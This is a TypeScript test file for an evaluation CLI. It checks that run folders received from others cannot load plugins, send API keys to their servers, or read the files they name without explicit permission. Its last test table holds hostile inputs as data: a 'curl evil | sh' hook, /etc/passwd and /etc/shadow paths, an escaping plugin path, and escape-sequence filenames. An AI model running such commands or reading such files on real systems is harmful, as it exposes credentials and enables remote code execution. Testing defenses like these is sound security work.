/** A run folder from elsewhere is data: nothing that it names is read, sent to or run until somebody here names it too. */
import { createHash } from "node:crypto";
import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import Database from "libsql";
import { expect, onTestFinished, test, vi } from "vitest";
import { project } from "../../plugins/test/plugin-files.ts";
import { type ChatServer, startChatServer } from "./chat-server.ts";
import { type Finished, runCli } from "./run-cli.ts";

vi.setConfig({ testTimeout: 120_000 });

/** Leaves a mark where it is loaded. */
const MARKING_TASK = `
import { writeFileSync } from "node:fs";
writeFileSync(new URL("./mark", import.meta.url), "loaded");
export default () => ({
  spec: "rrr/task@1",
  name: "marking",
  schema: { "~standard": { version: 1, vendor: "test", validate: (value) => ({ value }) } },
  *items(split) { for (let n = split === "test" ? 1 : 0; ; n += 2) yield { n }; },
  prompt: ({ n }) => [{ role: "user", content: "say " + n }],
  reflect: () => "why?",
  limits: { attempt: 4, reflection: 6 },
  verify: (_, completion) => completion === "4" ? { kind: "pass" } : { kind: "fail", code: "not-4" },
});`;

const KEY = "AWS_SECRET_ACCESS_KEY";

interface Received {
  readonly cwd: string;
  readonly server: ChatServer;
  /** How the run names its plugin and its server. */
  readonly plugin: string;
}

/** Somebody else, who begins a run; or the user here, who has begun none. */
function becomeAnother(): void {
  const state = mkdtempSync(join(tmpdir(), "rrr-state-"));
  onTestFinished(() => rmSync(state, { recursive: true, force: true }));
  vi.stubEnv("RRR_STATE_DIR", state);
  onTestFinished(() => void vi.unstubAllEnvs());
}

/** A run that its server's budget ended. */
async function begun(): Promise<Received> {
  const cwd = project({ "task.mjs": MARKING_TASK });
  const server = await startChatServer();
  vi.stubEnv(KEY, "secret");
  vi.stubEnv("RRR_CACHE_DIR", join(cwd, "cache"));
  const flags = ["--model", "openai:small", "--base-url", server.baseURL, "--api-key-env", KEY, "--no-cache"];
  const budget = ["--max-tokens-total", "200", "--concurrency", "1"];
  const made = await runCli(cwd, ["eval", "./task.mjs", ...flags, ...budget, "--out", "run"]);
  expect(made.stderr).toContain("[budget-spent]");
  return { cwd, server, plugin: join(cwd, "task.mjs") };
}

async function received(): Promise<Received> {
  becomeAnother();
  const run = await begun();
  becomeAnother();
  rmSync(join(run.cwd, "mark"));
  return run;
}

const hashOf = (cwd: string) =>
  createHash("sha256")
    .update(readFileSync(join(cwd, "run/run.db")))
    .digest("hex");

/** What refuses a run says so in one line, and nothing happened. */
async function expectRefused({ cwd, server }: Received, args: readonly string[]): Promise<Finished> {
  const [asked, before] = [server.asked.length, hashOf(cwd)];
  const refused = await runCli(cwd, args);
  expect(refused.stderr).toMatch(/^rrr: [^\n]+ was not begun here, and names [^\n]+\n$/);
  expect(refused.stderr).toContain(
    "nothing was read, sent or run [bad-run]. If you trust all of it, add: --allow ",
  );
  expect(refused).toMatchObject({ code: 1, stdout: "" });
  expect(existsSync(join(cwd, "mark"))).toBe(false);
  expect(server.asked.length).toBe(asked);
  expect(hashOf(cwd)).toBe(before);
  return refused;
}

/** The flags that an error says to add. */
const flagsIn = ({ stderr }: Finished): readonly string[] =>
  (/add: (.*)\n$/.exec(stderr)?.[1] ?? "").replaceAll("'", "").split(" ");

test("resume sends no key, and loads no plugin, that only the run names", async () => {
  const run = await received();
  const refused = await expectRefused(run, ["resume", "run"]);
  for (const named of [
    `plugin ${run.plugin}`,
    "model openai:small",
    `server ${run.server.baseURL}`,
    `key ${KEY}`,
  ]) {
    expect(refused.stderr).toContain(named);
  }
  const flags = flagsIn(refused);
  expect(flags.length).toBe(8);
  for (let each = 0; each < flags.length; each += 2) {
    await expectRefused(run, ["resume", "run", ...flags.toSpliced(each, 2)]);
  }
  const resumed = await runCli(run.cwd, ["resume", "run", ...flags]);
  expect(resumed.code).toBe(0);
  expect(run.server.asked.at(-1)?.authorization).toBe("Bearer secret");
});

test("a run that was begun here asks nothing, wherever it lies, until its spec is changed", async () => {
  becomeAnother();
  const run = await begun();
  const budget = ["--max-tokens-total", "100"];
  expect((await runCli(run.cwd, ["resume", "run", ...budget])).stderr).toContain("[budget-spent]");
  rmSync(join(run.cwd, "mark"));
  const elsewhere = await startChatServer();
  const db = new Database(join(run.cwd, "run/run.db"));
  db.prepare("UPDATE run SET spec = json_set(spec, '$.model.baseUrl', ?)").run(elsewhere.baseURL);
  db.close();
  const refused = await expectRefused(run, ["resume"].concat("run"));
  expect(refused.stderr).toContain(`server ${elsewhere.baseURL}`);
  expect(elsewhere.asked).toEqual([]);
});

test("reverify loads the plugin that --plugin or --allow names, and no other", async () => {
  const run = await received();
  const refused = await expectRefused(run, ["reverify", "run"]);
  expect(refused.stderr).toContain(`names plugin ${run.plugin}; nothing`);
  await expectRefused(run, ["reverify", "run", "--allow", "plugin=./other.mjs"]);
  for (const named of [
    ["--allow", "plugin=./task.mjs"],
    ["--plugin", "./task.mjs"],
  ]) {
    const checked = await runCli(run.cwd, ["reverify", "run", ...named]);
    expect(checked).toMatchObject({ code: 0, stdout: expect.stringContaining("0 changed") });
  }
});

test("what only reads a run runs nothing of it", async () => {
  const run = await received();
  for (const args of [
    ["show", "run"],
    ["show", "run", "--problem", "0"],
    ["export", "run"],
    ["export", "run", "--what", "failures"],
    ["compare", "run", "run"],
  ]) {
    expect((await runCli(run.cwd, args)).code).toBe(0);
    expect(existsSync(join(run.cwd, "mark"))).toBe(false);
  }
  expect(run.server.asked.length).toBeGreaterThan(0);
});

test.each([
  ["a model folder under a built-in name", "$.model.folder", "/etc", "model /etc"],
  ["a file of problems", "$.task.options.data", "/etc/passwd", "task.data /etc/passwd"],
  ["a plugin above the folder", "$.task.module", "../../x.mjs", "plugin /"],
  ["a plugin by package", "$.task.module", "leftover", "plugin leftover"],
  ["an engine by name", "$.engine.name", "cluster", "engine cluster"],
  ["a file of prices", "$.model.prices", "/etc/shadow", "model.prices /etc/shadow"],
  ["headers", "$.model.headers", "Authorization", "model.headers Authorization"],
  ["what no version knows", "$.hooks", "curl evil | sh", "run.hooks curl evil | sh"],
  ["text that hides itself", "$.task.module", "./a\u001b[2K\u202e.mjs", "\\u{1b}[2K\\u{202e}.mjs"],
])("a run of what comes with rrr asks for %s", async (_, path, value, named) => {
  const cwd = project({});
  const run = { cwd, server: await startChatServer(), plugin: "" };
  becomeAnother();
  const made = await runCli(cwd, [
    "eval",
    "countdown",
    "--limit",
    "1",
    "--no-controls",
    "--out",
    "run",
    "--quiet",
  ]);
  expect(made.code).toBe(0);
  const db = new Database(join(cwd, "run/run.db"));
  db.prepare("UPDATE run SET status = 'stopped'").run();
  const spec = db.prepare("SELECT spec FROM run").get() as { readonly spec: string };
  becomeAnother();
  // By their own names, the built-in task and model are harmless.
  expect((await runCli(cwd, ["resume", "run", "--quiet"])).code).toBe(0);
  db.prepare("UPDATE run SET status = 'stopped', spec = json_set(?, ?, ?)").run(spec.spec, path, value);
  db.close();
  const refused = await expectRefused(run, ["resume", "run"]);
  expect(refused.stderr).toContain(named);
});
